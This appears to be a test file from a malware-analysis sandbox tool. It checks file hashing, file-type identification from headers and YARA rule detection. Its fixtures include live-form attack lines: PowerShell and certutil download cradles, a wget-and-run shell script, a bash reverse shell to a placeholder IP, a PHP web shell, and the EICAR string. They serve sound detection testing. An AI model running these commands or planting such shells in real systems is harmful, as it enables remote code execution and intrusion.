@@ -1,0 +1,135 @@
+"""What the built-in plugins find."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import struct
+from pathlib import Path
+
+import pytest
+
+from malbox_tui.config.settings import PluginSettings
+from malbox_tui.model.report import Classification, Confidence, Identification, PluginStatus, Verdict
+from malbox_tui.plugins.registry import BUILTIN_FOLDER
+from malbox_tui.ports import Findings
+from tests.confine.rig import Rig, rig
+
+EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
+
+
+def pe(machine: int, dll: bool = False, subsystem: int = 3) -> bytes:
+    """The headers of a PE file and nothing else."""
+    optional = bytearray(0x60)
+    struct.pack_into("<H", optional, 0, 0x10B)
+    struct.pack_into("<H", optional, 0x44, subsystem)
+    coff = struct.pack("<HHIIIHH", machine, 0, 0, 0, 0, len(optional), 0x2000 if dll else 0x2)
+    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + coff + bytes(optional) + bytes(512)
+
+
+def elf(machine: int, bits: int = 64, order: str = "<") -> bytes:
+    """The header of an ELF file and nothing else."""
+    ident = b"\x7fELF" + bytes([bits // 32, 1 if order == "<" else 2, 1, 0]) + bytes(8)
+    return ident + struct.pack(f"{order}HH", 2, machine) + bytes(200)
+
+
+SAMPLES: dict[str, tuple[bytes, tuple[str, str | None, str | None]]] = {
+    "PE, x86": (pe(0x14C), ("pe", "windows", "x86")),
+    "PE, x64": (pe(0x8664, dll=True), ("pe", "windows", "x64")),
+    "PE, arm64": (pe(0xAA64), ("pe", "windows", "arm64")),
+    "PE, EFI": (pe(0x8664, subsystem=10), ("pe", None, "x64")),
+    "ELF, x64": (elf(62), ("elf", "linux", "x64")),
+    "ELF, big-endian MIPS": (elf(8, 32, ">"), ("elf", "linux", "mips")),
+    "ELF, cut off": (b"\x7fELF\x02", ("elf", "linux", None)),
+    "Mach-O": (b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x0100000C) + bytes(60), ("macho", "macos", "arm64")),
+    "DOS header alone": (b"MZ" + bytes(58) + struct.pack("<I", 2**31) + b"x" * 200, ("dos", "windows", None)),
+    "shell": (b'#!/bin/sh\nset -e\nfor f in *; do echo "$f"; done\n', ("script", "linux", None)),
+    "text": (b"Just a line of text.\n", ("text", None, None)),
+    "PDF": (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", ("pdf", None, None)),
+    "zip": (b"PK\x05\x06" + bytes(18), ("zip", None, None)),
+    "PNG": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 16, 16) + b"\x08\x02\0\0\0" + bytes(80), ("image", None, None)),
+    "HTML": (b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>Hello</p></body></html>\n", ("html", None, None)),
+}
+
+SUSPICIOUS = {
+    "PowerShell_Download_Cradle": b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')",
+    "PowerShell_Encoded_Command": b"powershell.exe -nop -w hidden -enc " + b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" * 2,
+    "Shell_Download_And_Run": b"#!/bin/sh\nwget http://192.0.2.1/x86 -O /tmp/a; chmod 777 /tmp/a; /tmp/a\n",
+    "Windows_Script_Download_Cradle": b'Set x = CreateObject("MSXML2.XMLHTTP")\nCreateObject("WScript.Shell").Run "a.exe"\n',
+    "Living_Off_The_Land_Download": b"certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\n",
+}
+MALICIOUS = {
+    "Unix_Reverse_Shell": b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+    "PHP_Web_Shell": b"<?php @eval(base64_decode($_POST['x'])); ?>",
+    "EICAR_Test_File": EICAR,
+}
+
+
+async def verdict_on(subject: Rig, sample: bytes) -> Verdict | None:
+    (run,) = [run for run in (await subject.findings(sample)).runs if run.name == "yara-x"]
+    assert run.status is PluginStatus.COMPLETED, run.reason
+    return run.verdict
+
+
+def identified(findings: Findings) -> Identification:
+    assert all(run.status is PluginStatus.COMPLETED for run in findings.runs), findings.runs
+    assert findings.identification is not None
+    return findings.identification
+
+
+async def test_digests_are_those_of_the_standard_library(tmp_path: Path) -> None:
+    sample = bytes(range(256)) * 20_000
+    async with rig(tmp_path, plugins=PluginSettings(disabled=("file-type", "yara-x")), plugin_folder=BUILTIN_FOLDER) as subject:
+        run = await subject.run(sample)
+        digests = json.loads(await subject.content(run, "digests"))
+    for name in ("md5", "sha1", "sha256"):
+        assert digests[name] == hashlib.new(name, sample).hexdigest()
+    assert digests["ssdeep"].count(":") == 2
+    assert digests["size_bytes"] == len(sample)
+
+
+async def test_content_is_identified_by_its_bytes(tmp_path: Path) -> None:
+    async with rig(tmp_path, plugins=PluginSettings(disabled=("digests", "yara-x")), plugin_folder=BUILTIN_FOLDER) as subject:
+        found = {}
+        for name, (sample, _expected) in SAMPLES.items():
+            identification = identified(await subject.findings(sample))
+            found[name] = (identification.kind, identification.platform, identification.arch)
+    assert found == {name: expected for name, (_sample, expected) in SAMPLES.items()}
+
+
+async def test_our_rules_find_what_they_are_for(tmp_path: Path) -> None:
+    async with rig(tmp_path, plugins=PluginSettings(disabled=("digests", "file-type")), plugin_folder=BUILTIN_FOLDER) as subject:
+        for classification, samples in ((Classification.SUSPICIOUS, SUSPICIOUS), (Classification.MALICIOUS, MALICIOUS)):
+            for rule, sample in samples.items():
+                verdict = await verdict_on(subject, sample)
+                assert verdict is not None, rule
+                assert (verdict.classification, verdict.labels) == (classification, (rule,))
+        assert await verdict_on(subject, b"Nothing to see.\n") is None
+        assert await verdict_on(subject, b"The EICAR file is not this one." + EICAR) is None
+
+
+async def test_rules_of_the_operator_are_used_and_broken_ones_named(tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    (rules / "deep").mkdir(parents=True)
+    (rules / "deep" / "mine.yar").write_text(
+        'rule Mine { meta: classification = "malicious" score = 77 strings: $a = "needle" condition: $a }'
+    )
+    (rules / "broken.yar").write_text("rule Broken\n{\n    condition: nothing_of_that_name\n}\n")
+    (rules / "silent.yara").write_text('rule Silent { strings: $a = "haystack" condition: $a }')
+    (rules / "notes.txt").write_text("no rules")
+    plugins = PluginSettings(disabled=("digests", "file-type"), config={"yara-x": {"rules": str(rules)}})
+    async with rig(tmp_path, plugins=plugins, plugin_folder=BUILTIN_FOLDER) as subject:
+        assert await verdict_on(subject, b"a needle here") == Verdict(Classification.MALICIOUS, 77, Confidence.LOW, ("Mine",))
+        assert await verdict_on(subject, b"a haystack") == Verdict(Classification.SUSPICIOUS, None, Confidence.LOW, ("Silent",))
+        run = await subject.run(b"a needle")
+        report = json.loads(await subject.content(run, "report"))
+    callouts = [block["text"] for block in report["sections"][0]["blocks"] if block["type"] == "callout"]
+    assert callouts == ["rules/broken.yar, line 3: unknown identifier `nothing_of_that_name`"]
+
+
+@pytest.mark.parametrize("name", ["digests", "file-type", "yara-x"])
+def test_rule_files_and_code_are_no_test_files_themselves(name: str) -> None:
+    for path in (BUILTIN_FOLDER / name).rglob("*"):
+        if path.is_file() and path.suffix != ".pyc":
+            assert EICAR not in path.read_bytes()
+            assert EICAR[28:62] not in path.read_bytes()
